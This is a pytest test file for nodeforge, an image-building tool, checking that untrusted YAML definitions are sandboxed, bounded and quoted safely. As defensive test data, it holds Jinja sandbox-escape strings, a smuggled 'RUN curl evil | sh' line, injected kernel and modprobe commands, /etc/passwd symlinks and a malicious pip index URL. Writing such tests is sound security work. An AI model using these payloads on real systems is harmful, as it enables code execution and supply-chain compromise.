"""Definitions are untrusted input (issue 9), without an engine: templates run in a bounded sandbox,
YAML reading is bounded, paths stay inside the image and the layer's files/, render never destroys
a directory it did not make, every writer quotes for its language, and faults give clear errors.
The malformed cases under tests/malformed/ cover the schema side (exit 2, file, line, key)."""

from __future__ import annotations

import contextlib
import errno
import shlex
import subprocess
import sys
import threading
from pathlib import Path
from typing import ClassVar

import pytest

from builder.compose import render as tpl
from builder.definitions import quoting
from builder.definitions.load import load_tree
from builder.definitions.yamlsrc import load_file
from builder.errors import Collector, DefinitionError, EnvironmentProblem

ROOT = Path(__file__).resolve().parent.parent
MALFORMED = Path(__file__).parent / "malformed"


def nodeforge(tree: Path | None, *args: str, cwd: Path = ROOT, env: dict[str, str] | None = None
              ) -> subprocess.CompletedProcess[str]:
    root = ["--root", str(tree)] if tree else []
    return subprocess.run([sys.executable, "-m", "builder", *root, *args], capture_output=True, text=True,
                          cwd=cwd, env=env)


def snapshot(tree: Path) -> dict[str, bytes]:
    return {str(p.relative_to(tree)): p.read_bytes() if p.is_file() else b"" for p in sorted(tree.rglob("*"))}


def render_text(text: str, ctx: dict[str, object] | None = None, files: Path | None = None) -> tuple[str | None, str]:
    out = Collector()
    r = tpl.render_string(tpl.environment(files or ROOT / "layers" / "base" / "files"), text, ctx or {}, out,
                          "f.yaml", 3, "k")
    return r, "\n".join(p.message for p in out.problems)


# --- 1. sandboxed templates ------------------------------------------------------------------------

def test_a_template_reaching_os_is_refused_with_exit_2(scratch_tree: Path) -> None:
    marker = scratch_tree / "nodeforge-pwned"  # what the template would create in the working directory
    for f in (MALFORMED / "template-sandbox-os").rglob("*.yaml"):
        dest = scratch_tree / f.relative_to(MALFORMED / "template-sandbox-os")
        dest.parent.mkdir(parents=True, exist_ok=True)
        dest.write_text(f.read_text())
    proc = nodeforge(scratch_tree, "validate", cwd=scratch_tree)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr
    assert "layers/bad/layer.yaml:3: sysctl.vm.swappiness: template refused by the sandbox" in proc.stderr
    assert not marker.exists()


@pytest.mark.parametrize("text", [
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ range.__globals__ }}",
    "{{ x.__class__ }}",
])
def test_sandbox_refuses_dunder_access(text: str) -> None:
    value, problems = render_text(text, {"x": "a"})
    assert value is None and "refused by the sandbox" in problems


def test_sandbox_keeps_the_filters_the_layers_use() -> None:
    value, problems = render_text("{{ ['a', 'B'] | map('lower') | join(',') }}|{{ 'x' | default('y') }}|{{ 3 * 2 }}")
    assert (value, problems) == ("a,b|x|6", "")
    value, problems = render_text("{{ x | upper }}", {"x": "a"})
    assert value is None and "No filter named 'upper'" in problems


SLOW = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"


def test_template_time_bound(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(tpl, "MAX_SECONDS", 0.2)
    value, problems = render_text(SLOW)
    assert value is None and "ran longer than 0.2 s" in problems
    assert render_text("{{ 1 + 1 }}") == ("2", "")  # the timer is off again


def test_template_time_bound_in_a_worker_thread(monkeypatch: pytest.MonkeyPatch) -> None:
    """Parallel builds compose in threads, where no signal reaches: a line trace bounds them."""
    monkeypatch.setattr(tpl, "MAX_SECONDS", 0.2)
    results: list[tuple[str | None, str]] = []
    worker = threading.Thread(target=lambda: results.append(render_text(SLOW)))
    worker.start()
    worker.join()
    assert results[0][0] is None and "ran longer than 0.2 s" in results[0][1]


def test_template_size_bounds() -> None:
    assert "too long" in render_text("{{ 'a' * 100000000 }}")[1]
    assert "too large a number" in render_text("{{ 10 ** 100000 }}")[1]
    assert "output is longer" in render_text("{% for i in range(99999) %}{{ 'x' * 100 }}{% endfor %}")[1]
    assert "longer than" in render_text("{{ 1 }}" + "x" * (tpl.MAX_TEMPLATE_CHARS + 1))[1]
    assert "recurses too deeply" in render_text("{% macro f(s) %}{{ f(s) }}{% endmacro %}{{ f('x') }}")[1]


def test_include_cannot_leave_files_dir(tmp_path: Path) -> None:
    files = tmp_path / "files"
    files.mkdir()
    (files / "ok.j2").write_text("ok {{ 1 }}")
    (files / "passwd.j2").symlink_to("/etc/passwd")
    assert render_text("{% include 'ok.j2' %}", files=files) == ("ok 1", "")
    for name in ("passwd.j2", "../files/passwd.j2", "/etc/passwd"):
        value, problems = render_text("{% include '" + name + "' %}", files=files)
        assert value is None and "root:" not in problems, name


# --- 2. bounded parsing ----------------------------------------------------------------------------

def test_definition_file_size_bound(tmp_path: Path) -> None:
    big = tmp_path / "layer.yaml"
    big.write_text("name: x\nsummary: s\ndescription: '" + "x" * (1024 * 1024) + "'\n")
    with pytest.raises(DefinitionError) as e:
        load_file(big, "layers/x/layer.yaml")
    assert "1048611 bytes, more than the 1048576 a definition may have" in e.value.render()


def test_validate_root_that_is_missing_or_not_a_project(tmp_path: Path) -> None:
    proc = nodeforge(tmp_path / "nowhere", "validate")
    assert proc.returncode == 2 and "no such directory" in proc.stderr and "ok:" not in proc.stdout
    proc = nodeforge(tmp_path, "validate")
    assert proc.returncode == 2 and "not a project tree" in proc.stderr


# --- 4. paths -------------------------------------------------------------------------------------

def test_source_symlink_out_of_files_is_refused(scratch_tree: Path) -> None:
    layer = scratch_tree / "layers" / "leak"
    (layer / "files").mkdir(parents=True)
    (layer / "files" / "passwd").symlink_to("/etc/passwd")
    (layer / "files" / "inner").write_text("x")
    (layer / "files" / "inside").symlink_to("inner")
    (layer / "layer.yaml").write_text("name: leak\nsummary: s\nfiles:\n"
                                      "  - {path: /etc/ok, source: inside}\n"
                                      "  - {path: /etc/leak, source: passwd}\n")
    proc = nodeforge(scratch_tree, "validate")
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert "layers/leak/layer.yaml:5: files[/etc/leak].source" in proc.stderr
    assert "outside it" in proc.stderr and "/etc/ok" not in proc.stderr


def test_paths_are_normalised(scratch_tree: Path) -> None:
    (scratch_tree / "layers" / "p").mkdir()
    (scratch_tree / "layers" / "p" / "layer.yaml").write_text(
        "name: p\nsummary: s\nfiles:\n  - {path: /etc/./nodeforge//p.conf/, content: x}\n")
    tree = load_tree(scratch_tree)
    assert tree.layers["p"].data["files"][0]["path"] == "/etc/nodeforge/p.conf"


# --- 5. render never destroys input ----------------------------------------------------------------

@pytest.mark.parametrize("dest", ["layers", ".", "..", "images/"])
def test_render_into_the_project_tree_is_refused(scratch_tree: Path, dest: str) -> None:
    before = snapshot(scratch_tree)
    proc = nodeforge(scratch_tree, "render", "node-minimal", dest, cwd=scratch_tree)
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "Traceback" not in proc.stderr and "render:" in proc.stderr
    assert snapshot(scratch_tree) == before


def test_render_refuses_a_directory_it_did_not_make(scratch_tree: Path,
                                                   tmp_path_factory: pytest.TempPathFactory) -> None:
    tmp_path = tmp_path_factory.mktemp("out")
    mine = tmp_path / "mine"
    mine.mkdir()
    (mine / "precious.txt").write_text("keep me")
    proc = nodeforge(scratch_tree, "render", "node-minimal", str(mine))
    assert proc.returncode == 2 and "was not made by `nodeforge render`" in proc.stderr
    assert [p.name for p in mine.iterdir()] == ["precious.txt"]
    out = tmp_path / "ctx"
    assert nodeforge(scratch_tree, "render", "node-minimal", str(out)).returncode == 0
    assert (out / ".nodeforge-render").is_file() and (out / "Dockerfile").is_file()
    (out / "stale").write_text("from an older render")
    assert nodeforge(scratch_tree, "render", "node-minimal", str(out)).returncode == 0
    assert not (out / "stale").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["ctx", "mine"]  # no temporary left


def test_render_failure_leaves_nothing(scratch_tree: Path, tmp_path_factory: pytest.TempPathFactory,
                                       monkeypatch: pytest.MonkeyPatch) -> None:
    from builder.compose.image import compose

    tmp_path = tmp_path_factory.mktemp("out")
    from builder.engine import dockerfile

    plan = compose(load_tree(scratch_tree), "node-minimal")

    def full(*args: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(dockerfile, "write_context", full)
    with pytest.raises(OSError):
        dockerfile.render(plan, tmp_path / "ctx", "base", "", {}, project=scratch_tree)
    assert list(tmp_path.iterdir()) == []


# --- 6. writers quote ------------------------------------------------------------------------------

def _dockerfile_words(line: str) -> list[str]:
    """A Dockerfile ENV/LABEL line read as the Dockerfile lexer reads it (POSIX-style quotes)."""
    return shlex.split(line.split(" ", 1)[1].removesuffix(" \\"))


def test_dockerfile_env_and_label_values_arrive_literally() -> None:
    from builder.engine.dockerfile import fragment, label_fragment
    from builder.plan import LayerStep

    nasty = "a $HOME b'c \"d\" ${X} é"
    step = LayerStep("w", "summary\nRUN curl evil | sh", "k" * 64, (), "", (("V", nasty), ("P", "/usr/bin")), (),
                     True, (), ("/bin/sh", "-c", "echo \"$1\""))
    text = fragment(step, "01-w")
    lines = text.splitlines()
    assert not any(line.startswith("RUN curl") for line in lines)
    assert lines[0] == "# layer w: summary RUN curl evil | sh"
    env = next(line for line in lines if line.startswith("ENV "))
    assert env == "ENV V='a $HOME b'\\''c \"d\" ${X} é' \\"
    assert _dockerfile_words(env)[0] == f"V={nasty}"
    assert 'ENTRYPOINT ["/bin/sh", "-c", "echo \\"$1\\""]' in lines
    label = label_fragment({"org.x": nasty}).strip()
    assert _dockerfile_words(label) == [f"org.x={nasty}"]
    with pytest.raises(quoting.Unquotable):
        quoting.dockerfile_word("a\nRUN x")


def _art(cmdline: str):  # type: ignore[no-untyped-def]
    from builder.node.assemble import NodeArtifacts

    return NodeArtifacts("n", "k" * 64, "c" * 64, "/x", "6.1.0-1-amd64", cmdline, "nf-root", "u", 512, 256,
                         files={"kernel": "vmlinuz", "initrd": "initrd.img", "rootfs": "rootfs.tar.gz"})


def test_grub_cfg_quotes_kernel_arguments() -> None:
    from builder.node.assemble import grub_config

    cmdline = "root=LABEL=nf-root ro quiet dyndbg=\"file x +p\" evil=a;reboot dollar=$x q=it's"
    cfg = grub_config(_art(cmdline), "img", "1.0")
    linux = next(line for line in cfg.splitlines() if line.startswith("linux "))
    assert linux == ("linux /boot/vmlinuz-6.1.0-1-amd64 root=LABEL=nf-root ro quiet 'dyndbg=\"file x +p\"' "
                     "'evil=a;reboot' 'dollar=$x' 'q=it'\\''s'")
    # GRUB's single quotes read like POSIX ones: what the kernel receives is what was written
    assert shlex.split(linux)[2:] == quoting.cmdline_args(cmdline)
    assert "echo 'nodeforge: booting img 1.0 (6.1.0-1-amd64)'" in cfg


def test_ipxe_takes_plain_arguments_and_refuses_what_it_cannot_hold() -> None:
    from builder.errors import BuildFailed
    from builder.node.assemble import ipxe_script

    script = ipxe_script(_art("root=LABEL=nf-root ro quiet console=ttyS0,115200n8"), "img", "1.0", "0" * 64)
    kernel = next(line for line in script.splitlines() if line.startswith("kernel "))
    assert " quiet console=ttyS0,115200n8 boot=nodeforge-net " in kernel
    for arg in ('dyndbg="file x +p"', "x=${net0/mac}"):
        with pytest.raises(BuildFailed, match=r"boot\.ipxe cannot hold"):
            ipxe_script(_art(f"root=LABEL=nf-root ro {arg}"), "img", "1.0", "0" * 64)


WRITER_LAYER = """name: w
summary: a layer whose values carry characters the grammars allow and the writers must quote
sysctl: {net.ipv4.tcp_rmem: "4096 87380 16777216", kernel.core_pattern: "|/usr/bin/x %p # not a comment"}
kernel:
  args: ['init=/sbin/x~y']
  modprobe: {nvidia: {NVreg_RegistryDwords: '"RMUseSwI2c=0x01;RMI2cSpeed=100"', NVreg_X: 'a$b'}}
packages:
  repos:
    - {name: x, uri: 'https://example.invalid/debian?a=1&b=2', suites: [/], components: [], key: k.asc}
users:
  - {name: svc-x, groups: [video], shell: /usr/sbin/nologin}
files:
  - {path: '/srv/a~b%c=d', content: x, owner: svc-x, group: video}
"""


@pytest.fixture()
def writer_plan(scratch_tree: Path):  # type: ignore[no-untyped-def]
    from builder.compose.image import compose

    layer = scratch_tree / "layers" / "w"
    (layer / "files").mkdir(parents=True)
    (layer / "files" / "k.asc").write_text("-----BEGIN PGP PUBLIC KEY BLOCK-----\n")
    (layer / "layer.yaml").write_text(WRITER_LAYER)
    (scratch_tree / "images" / "w.yaml").write_text(
        "name: w\nsummary: writer test\nkind: node\nfrom: {debian: {suite: bookworm}}\n"
        "source-date-epoch: 1700000000\nlayers: [base, w]\n")
    plan = compose(load_tree(scratch_tree), "w")
    step = next(s for s in plan.steps if s.layer == "w")
    return plan, step, {f.path: f.content for f in step.files}


def test_shell_apply_script_quotes_paths_and_names(writer_plan) -> None:  # type: ignore[no-untyped-def]
    _, step, _ = writer_plan
    assert "chown svc-x:video '/srv/a~b%c=d'" in step.apply.splitlines()
    useradd = next(line for line in step.apply.splitlines() if "useradd" in line)
    assert shlex.split(useradd)[-1] == "svc-x"


def test_sysctl_values_stay_on_their_line(writer_plan) -> None:  # type: ignore[no-untyped-def]
    _, _, files = writer_plan
    conf = files["/etc/sysctl.d/90-nodeforge-w.conf"].splitlines()
    assert "net.ipv4.tcp_rmem = 4096 87380 16777216" in conf
    assert "kernel.core_pattern = |/usr/bin/x %p # not a comment" in conf
    assert len(conf) == 3  # the comment and two settings: no value made a line of its own


def test_modprobe_options_stay_on_one_options_line(writer_plan) -> None:  # type: ignore[no-untyped-def]
    _, _, files = writer_plan
    conf = files["/etc/modprobe.d/nodeforge-w.conf"].splitlines()
    options = [line for line in conf if line.startswith("options nvidia ")]
    assert options == ['options nvidia NVreg_RegistryDwords="RMUseSwI2c=0x01;RMI2cSpeed=100" NVreg_X=a$b']
    assert not any(line.startswith("install") for line in conf)


def test_apt_source_holds_only_its_own_fields(writer_plan) -> None:  # type: ignore[no-untyped-def]
    _, _, files = writer_plan
    sources = files["/etc/apt/sources.list.d/x.sources"].splitlines()
    fields = [line.split(":", 1)[0] for line in sources if not line.startswith("#")]
    assert fields == ["Types", "URIs", "Suites", "Signed-By"]
    assert "URIs: https://example.invalid/debian?a=1&b=2" in sources


def test_kernel_argument_from_a_layer_reaches_grub_quoted(writer_plan) -> None:  # type: ignore[no-untyped-def]
    from builder.node.assemble import full_cmdline, grub_config

    plan, _, _ = writer_plan
    cfg = grub_config(_art(full_cmdline(plan)), "w", "0.0.0")
    assert " 'init=/sbin/x~y'" in cfg


def test_unit_word_escapes_specifiers_and_quotes() -> None:
    assert quoting.unit_word('a "b" %h $X \\') == '"a \\"b\\" %%h $$X \\\\"'
    assert quoting.shell("a b'c") == "'a b'\"'\"'c'"
    with pytest.raises(quoting.Unquotable):
        quoting.config_line_value("1\ninstall x /bin/sh")


# --- 7. faults -------------------------------------------------------------------------------------

def test_engine_not_running_is_exit_2_with_how_to_start_it(scratch_tree: Path, tmp_path: Path) -> None:
    env = {"PATH": "/usr/bin:/bin", "DOCKER_HOST": f"unix://{tmp_path}/dead.sock", "HOME": str(tmp_path)}
    proc = nodeforge(scratch_tree, "build", "node-minimal", env=env)
    assert proc.returncode == 2, proc.stderr
    assert "Traceback" not in proc.stderr
    assert f"no Docker Engine answers at unix://{tmp_path}/dead.sock" in proc.stderr
    assert "systemctl start docker" in proc.stderr


HOLDER = """
import fcntl, sys
f = open(sys.argv[1], "a+")
fcntl.flock(f, fcntl.LOCK_EX)
print("held", flush=True)
sys.stdin.read()
"""


def test_two_builds_of_one_image_take_turns(tmp_path: Path) -> None:
    from builder.engine.client import image_lock

    (tmp_path / "build" / "locks").mkdir(parents=True)
    holder = subprocess.Popen([sys.executable, "-c", HOLDER, str(tmp_path / "build" / "locks" / "img.lock")],
                              stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    try:
        assert holder.stdout is not None and holder.stdout.readline().strip() == "held"
        with pytest.raises(EnvironmentProblem, match="another build of img is running"), \
                image_lock(tmp_path, "img", wait=False):
            pass
        entered = threading.Event()

        def second() -> None:
            with image_lock(tmp_path, "img"):
                entered.set()

        t = threading.Thread(target=second)
        t.start()
        assert not entered.is_set()
        assert holder.stdin is not None
        holder.stdin.close()  # the first build ends: its lock goes with it
        holder.wait()
        t.join()
        assert entered.is_set()
        with image_lock(tmp_path, "other", wait=False):  # another image is never blocked
            pass
    finally:
        holder.kill()


def test_disk_full_during_assembly_leaves_no_partial_output(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """ENOSPC is simulated at the write call (a real full disk needs root to mount a tmpfs)."""
    from builder.node import assemble
    from builder.progress import Progress

    def fill(plan, rootfs, how, content_key, key, work: Path, formats, progress, signing, *rest):  # type: ignore[no-untyped-def]
        (work / "disk.raw").write_bytes(b"\0" * 4096)
        raise OSError(errno.ENOSPC, "No space left on device", str(work / "disk.qcow2"))

    class Plan:
        image = "full"
        config = None
        install = None
        outputs: ClassVar[dict[str, object]] = {"formats": ["raw"]}

    @contextlib.contextmanager
    def tree(c, ref, work: Path):  # type: ignore[no-untyped-def]
        (work / "rootfs").mkdir()
        yield work / "rootfs", "exported"

    monkeypatch.setattr(assemble, "_assemble_into", fill)
    monkeypatch.setattr(assemble, "image_tree", tree)
    monkeypatch.setattr(assemble, "check_tools", lambda: None)
    monkeypatch.setattr(assemble, "assembly_key", lambda plan, key, signing: "a" * 64)
    monkeypatch.setattr(assemble, "load", lambda root, image: None)
    with pytest.raises(OSError) as e:
        assemble.assemble(None, Plan(), "ref", "c" * 64, tmp_path, Progress(quiet=True))  # type: ignore[arg-type]
    assert e.value.errno == errno.ENOSPC
    out = assemble.output_dir(tmp_path, "full")
    assert not out.exists() and list(out.parent.iterdir()) == []

    from builder import cli
    from builder.commands import definitions

    def command(args: object) -> int:
        raise e.value

    monkeypatch.setattr(definitions, "validate", command)
    assert cli.main(["validate"]) == 1


def test_interrupt_exits_cleanly_and_removes_what_this_process_created(monkeypatch: pytest.MonkeyPatch,
                                                                       capsys: pytest.CaptureFixture[str]) -> None:
    from builder import cli
    from builder.commands import definitions
    from builder.engine import client

    removed: list[bool] = []

    def remove() -> list[str]:
        removed.append(True)
        return ["abc123"]

    monkeypatch.setattr(client, "remove_throwaway_containers", remove)

    def interrupted(args: object) -> int:
        raise KeyboardInterrupt

    monkeypatch.setattr(definitions, "validate", interrupted)
    assert cli.main(["validate"]) == 2
    assert removed == [True]
    assert "interrupted; removed containers abc123" in capsys.readouterr().err



def test_a_parameter_cannot_bring_a_pip_option(scratch_tree: Path) -> None:
    """The cupy parameter's own pattern lets an option through after the version; the rendered
    requirement is checked against the pip grammar before it reaches pip's command line."""
    proc = nodeforge(scratch_tree, "plan", "cupy-cuda12.9", "--set",
                     "python-cupy.cupy=cupy-cuda12x>=1 --index-url=http://evil.invalid/simple")
    assert proc.returncode == 2 and "Traceback" not in proc.stderr
    assert "layers/python-cupy/layer.yaml:" in proc.stderr
    assert "packages.pip[0]: expected a pip requirement" in proc.stderr
    good = nodeforge(scratch_tree, "plan", "cupy-cuda12.9", "--set", "python-cupy.cupy=cupy-cuda12x>=13")
    assert good.returncode == 0, good.stderr
